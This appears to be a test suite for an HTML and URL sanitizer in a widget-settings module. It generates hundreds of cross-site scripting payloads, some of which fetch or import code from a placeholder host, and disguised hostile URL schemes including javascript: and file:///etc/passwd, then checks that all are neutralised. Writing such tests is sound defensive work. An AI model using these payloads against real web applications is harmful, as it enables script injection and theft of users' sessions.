import { readSettings } from './widget-settings.dto.js';

const CODES = ['alert(1)', 'fetch`//x.test`', 'top[`al`+`ert`](1)', 'import(`//x.test`)', 'eval(name)'];
/** `@` stands for the code. */
const SHAPES = [
  '<script>@</script>',
  '<ScRiPt src=//x.test>@</sCrIpT>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<script/x>@</script',
  '<img src=x onerror=@>',
  '<img src="x"onerror="@">',
  '<img/src/onerror=@//',
  '<svg onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><a xlink:href="javascript:@"><text>x</text></a></svg>',
  '<svg><animate onbegin=@ attributeName=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=@>',
  '<body onload=@>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<iframe src="javascript:@">',
  '<object data="javascript:@">',
  '<embed src="javascript:@">',
  '<form action="javascript:@"><button>x</button></form>',
  '<button formaction="javascript:@">x</button>',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>x</details>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@>',
  '<marquee onstart=@>x</marquee>',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<base href="javascript:@//">',
  '<link rel=stylesheet href="data:text/css,@">',
  '<style>@import "javascript:@";</style>',
  '<p style="background:url(javascript:@)">x</p>',
  '<p onclick=@ onmouseover=@>x</p>',
  '<strong/onpointerenter=@>x</strong>',
  '<a href="javascript:@">x</a>',
  '<a href="JaVa\nScRiPt:@">x</a>',
  '<a href="&#106;avascript:@">x</a>',
  '<a href="&#x6A&#x61vascript:@">x</a>',
  '<a href=" javascript:@">x</a>',
  '<a href="java&Tab;script:@">x</a>',
  '<a href="data:text/html,<script>@</script>">x</a>',
  '<a href="vbscript:@">x</a>',
  '<a href=javascript&colon;@>x</a>',
  '<a href="//x.test/@">x</a>',
  '<a href="https://x.test/" onclick="@">x</a>',
  '<a href=`javascript:@`>x</a>',
  '<ol start="1" onclick=@ start=\'"><img src=x onerror=@>\'><li>x</li></ol>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<!--><img src=x onerror=@>-->',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<template><img src=x onerror=@></template>',
  '<textarea><img src=x onerror=@></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=@>">',
  '<plaintext><img src=x onerror=@>',
  '<title><img src=x onerror=@></title>',
  '<select><style></select><img src=x onerror=@></style>',
  '"><img src=x onerror=@>',
  "'-@-'",
  '&lt;img src=x onerror=@&gt;',
  '<custom-tag onclick=@ tabindex=1>x</custom-tag>',
  '<isindex action="javascript:@">',
  '<p id="cookie" name="body" class="@">x</p>',
  '<pre><code onclick=@><img src=x onerror=@></code></pre>',
];
const MARKUP = SHAPES.flatMap((shape) => CODES.map((code) => shape.replaceAll('@', code)));

const TAG =
  /<\/?(?:h[234]|p|br|hr|blockquote|ul|ol|li|dl|dt|dd|strong|b|em|i|u|s|sub|sup|mark|code|pre|a)(?: href="([^"<>]*)"| rel="noopener noreferrer"| target="_blank"| start="[^"<>]*")*(?: \/)?>/g;

test('three hundred pieces of hostile markup leave nothing but the tags and addresses a text may have', () => {
  expect(MARKUP.length).toBeGreaterThanOrEqual(300);
  const active = MARKUP.filter((content) => {
    const html = readSettings('text', { content }).content;
    const leads = [...html.matchAll(TAG)].map(
      ([, href = '']) => new URL(href, 'https://sanctum.test/lesson'),
    );
    return (
      html.replaceAll(TAG, '').includes('<') ||
      !leads.every(({ protocol }) => /^(https|mailto):$/.test(protocol))
    );
  });
  expect(active).toEqual([]);
});

const SCHEMES = [
  'javascript:alert(1)',
  'data:text/html,x',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:x',
  'ftp://x.test',
];
const DISGUISES: ((url: string) => string)[] = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => ` ${url}`,
  (url) => `\t${url}`,
  (url) => `\u0001${url}`,
  (url) => url.replace(':', '\n:'),
  (url) => `${url.slice(0, 2)}\t${url.slice(2)}`,
  (url) => url.replace(':', '&colon;'),
  (url) => `\\${url}`,
  (url) => `//${url}`,
  (url) => `/\\${url}`,
  (url) => `http://${url}`,
  (url) => `\u200b${url}`,
  (url) => `"${url}`,
  (url) => `/\t/${url}`,
  (url) => `/ ${url}`,
  (url) => `/\u0000${url}`,
  (url) => `view-source:${url}`,
  (url) => `url(${url})`,
  (url) => encodeURIComponent(url),
  (url) => `http:${url}`,
  (url) => `///${url}`,
  (url) => `feed:${url}`,
  (url) => `jar:${url}!/`,
  (url) => `%0a${url}`,
];
const ADDRESSES = SCHEMES.flatMap((url) => DISGUISES.map((disguise) => disguise(url)));
const FIELDS = [
  ['button', (url: string) => ({ label: 'x', url })],
  ['calendly', (url: string) => ({ url })],
  ['typeform', (url: string) => ({ url })],
] as const;

test.each(FIELDS)('a hundred and fifty hostile addresses are refused for %s', (type, settings) => {
  expect(ADDRESSES.length).toBeGreaterThanOrEqual(150);
  const taken = ADDRESSES.filter((url) => {
    try {
      readSettings(type, settings(url));
      return true;
    } catch {
      return false;
    }
  });
  expect(taken).toEqual([]);
});
